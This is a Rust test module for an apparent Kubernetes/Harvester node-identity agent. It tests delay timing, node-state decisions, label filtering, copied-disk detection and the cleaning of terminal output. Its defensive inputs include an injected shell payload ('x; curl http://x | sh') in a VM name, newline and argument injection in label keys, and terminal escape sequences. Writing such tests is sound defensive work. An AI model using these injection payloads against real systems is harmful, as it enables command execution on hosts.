// SPDX-License-Identifier: Apache-2.0

use harvester_lab::expected::cases_are_expected;
use serde_json::{Value, json};

use super::*;
use crate::access::testing::{tree, write as put};
use crate::facts::topology::LabelValue;
use crate::sys::lock::{self, Instance, LOCK_FILE};

/// The status of a daemon: the verdict about the hostname `name`, with the VM unless it is unknown.
fn status(name: &str, verdict: Verdict) -> Value {
    let vm = json!({"name": "pool1-abcde"});
    let is_unknown = [Verdict::Unknown, Verdict::Ambiguous, Verdict::NotFound].contains(&verdict);
    let vm = (!is_unknown).then_some(vm);
    json!({
        "apiVersion": crate::report::status::API_VERSION, "kind": "Status",
        "lastUpdateTime": "2026-11-21T10:00:00Z", "trigger": "timer",
        "agent": {"version": "1", "pid": 1, "startTime": "2026-11-21T10:00:00Z"},
        "identity": {
            "state": verdict, "impact": "", "evidence": [], "vm": vm,
            "names": [{"type": "hostname", "name": name, "state": verdict}],
        },
        "labels": {"state": "pending", "owned": {}, "skippedLabels": []},
        "credentials": {"harvester": {"kubeconfig": "/etc/kubernetes/cloud-config"}, "kubelet": {}},
        "eventSources": [], "findings": [],
    })
}

fn missing(seconds: u64) -> Seen {
    let alone = Some(Duration::from_secs(seconds));
    Seen {
        alone,
        ..Seen::default()
    }
}

#[test]
fn a_delay_ends_with_its_bound_or_when_no_daemon_has_run_for_a_while() {
    let bound = Duration::from_secs(120);
    for (seen, waited, seconds) in [
        (Seen::default(), 20, 100),
        (Seen::default(), 120, 0),
        (missing(5), 20, 10),
        (missing(14), 60, 1),
        (missing(15), 60, 0),
        (missing(60), 60, 0),
        (missing(0), 119, 1),
        (missing(0), 120, 0),
    ] {
        let left = left(&seen, Duration::from_secs(waited), bound);
        assert_eq!(left, Duration::from_secs(seconds), "{seen:?} {waited}");
    }
}

/// The file has states of a node: the verdict of the daemon and what else is so, or that there is no daemon or no status yet. A delay is
/// only for what can change, names what is wrong and what to type, and never advises to rename a Node that may be that of another VM, or
/// to replace a template.
#[test]
fn each_state_of_a_node_has_its_decision() {
    cases_are_expected("src/commands/gate/cases.txt", |case| {
        let (mut seen, mut document, mut present) = (Seen::default(), Value::Null, None);
        for word in case.split(' ') {
            match word {
                "no-daemon" => seen = missing(15),
                "no-status" => {}
                // A name that differs from the platform's is wrong, with or without a credential.
                "no-credential" => seen.may_learn = false,
                "template" => seen.has_template = true,
                "wants-labels" => document["registration"] = json!({}),
                "node-name" => document["identity"]["names"][0]["type"] = json!(word),
                "hostile" => document["identity"]["vm"]["name"] = json!("x; curl http://x | sh"),
                "cloud-init" => {
                    document["identity"]["vm"] = Value::Null;
                    document["identity"]["expectedName"] = json!("web");
                }
                "registered" | "copied" => {
                    present = Some(Present {
                        path: "/kubelet.kubeconfig".to_owned(),
                        node: Some("a".to_owned()),
                        copied: (word == "copied").then(|| "another product_uuid".to_owned()),
                    });
                }
                _ => {
                    let mut verdicts = Verdict::ALL.iter();
                    let verdict = verdicts.find(|verdict| verdict.as_str() == word);
                    document = status("localhost", *verdict.unwrap());
                    seen.may_learn = true;
                }
            }
        }
        let is_known = document.is_object();
        seen.status = is_known.then(|| Status::from_json(&document).unwrap());
        match decide(present.as_ref(), &seen) {
            Decision::Open(text) => format!("opens: {text}"),
            Decision::Hold(why, late) => format!("delays: {why}\nat the end: {late}"),
        }
    });
    let cases = include_str!("cases.txt");
    let has_case = |verdict: &Verdict| cases.contains(&format!("\n{}\n", verdict.as_str()));
    assert!(Verdict::ALL.iter().all(has_case));
}

#[test]
fn only_labels_of_ours_are_passed_on_and_none_to_the_node_of_another_vm() {
    let with = |verdict, registration| {
        let mut status = status("localhost", verdict);
        status["registration"] = registration;
        status
    };
    let known = |status: &Value, host| known_labels(Status::from_json(status).unwrap(), host);
    let why = known(&with(Verdict::Match, json!({})), None).unwrap_err();
    assert!(why.contains("still unknown"), "{why}");
    // A label that Kubernetes does not accept would prevent the start of the kubelet: a status with one is not read.
    let invalid = with(Verdict::Match, json!({"labels": {ZONE: "a b"}}));
    Status::from_json(&invalid).unwrap_err();
    // Keys are not those of a status, but ours: others could be more lines, or more arguments of the kubelet.
    let host = "example.com/host";
    let status =
        json!({"labels": {ZONE: "a", host: "a", "b": "a", "b\"\nserver: c": "a", "b --v=9": "a"}});
    let labels = |host| {
        let keys = [Some(ZONE), host].into_iter().flatten();
        let value = LabelValue::parse("a").unwrap();
        keys.map(|key| (key.to_owned(), value.clone())).collect()
    };
    for host in [None, Some(host)] {
        for verdict in [Verdict::Match, Verdict::Differs] {
            let known = known(&with(verdict, status.clone()), host);
            assert_eq!(known, Ok::<Labels, _>(labels(host)), "{verdict:?}");
        }
    }
    let why = known(&with(Verdict::AnotherVm, status), None).unwrap_err();
    assert!(why.ends_with("explain name-of-another-vm"), "{why}");
}

fn publish(root: &Root, process: &Instance) {
    let mut status = status("vm-1", Verdict::Match);
    status["agent"]["pid"] = json!(process.pid);
    status["agent"]["startTicks"] = json!(process.start_ticks);
    status["agent"]["bootID"] = json!(process.boot_id);
    let content = status_file::content(&status);
    put(root, &content.path, &content.text.unwrap());
}

#[test]
fn a_copied_disk_is_known_at_every_boot_until_the_node_is_that_of_this_vm() {
    let (_dir, root) = tree();
    let write = |path: &str, text: &str| put(&root, path, text);
    let save = |state: &state::State| {
        let content = state.content();
        write(content.path.to_str().unwrap(), &content.text.unwrap());
    };
    let uuid = |last| format!("0b1c2d3e-4f50-4a6b-8c7d-9e0f1a2b3c4{last}");
    let boot = |last| {
        write("/sys/class/dmi/id/product_uuid", &uuid(last));
        let ours = MachineId::of(&observe::machine::read_machine(&root));
        state::load(&root, &ours).0
    };
    save(&boot("a"));
    assert_eq!(copied(&root), None);
    let mut state = boot("b");
    assert!(copied(&root).unwrap().contains(&uuid("a")));
    // The daemon replaces the state of the other VM.
    save(&state);
    assert_eq!(boot("b").copied_from, state.copied_from);
    assert!(copied(&root).unwrap().contains(&uuid("a")));
    state.copied_from = None;
    save(&state);
    assert_eq!(copied(&root), None);
    let own = Instance::own().unwrap();
    publish(&root, &own);
    assert_eq!(copied(&root), None);
    let mut status = status_file::read(&root).unwrap();
    status["identity"]["copiedFrom"] = json!(uuid("a"));
    write(status_file::STATUS_FILE, &status.to_string());
    assert!(copied(&root).unwrap().contains(&uuid("a")));
}

#[test]
fn a_status_counts_if_the_lock_has_no_process_id() {
    let (_dir, root) = tree();
    let own = Instance::own().unwrap();
    publish(&root, &own);
    let settings = Settings::default();
    let says = || see(&root, &settings, &mut None).status.is_some();
    assert!(says(), "the process in the status runs");
    let _lock = lock::acquire(&root).unwrap();
    assert!(says());
    // As on a full disk.
    std::fs::write(root.join(LOCK_FILE), "").unwrap();
    assert!(says());
    let start_ticks = own.start_ticks + 1;
    publish(&root, &Instance { start_ticks, ..own });
    assert!(!says(), "a status of an earlier process");
}

#[tokio::test]
async fn text_of_others_cannot_control_the_terminal() {
    let (_dir, root) = tree();
    let present = Present {
        path: "/x\u{1b}]0;title\u{7}\nline".to_owned(),
        node: None,
        copied: Some("\u{202e}".to_owned()),
    };
    let settings = Settings::default();
    let answer = wait(&root, &settings, Some(&present), Duration::ZERO).await;
    let line = answer.stderr.trim_end_matches('\n');
    let is_plain = |character: char| !character.is_control() && character != '\u{202e}';
    assert!(!line.is_empty() && line.chars().all(is_plain), "{line:?}");
}
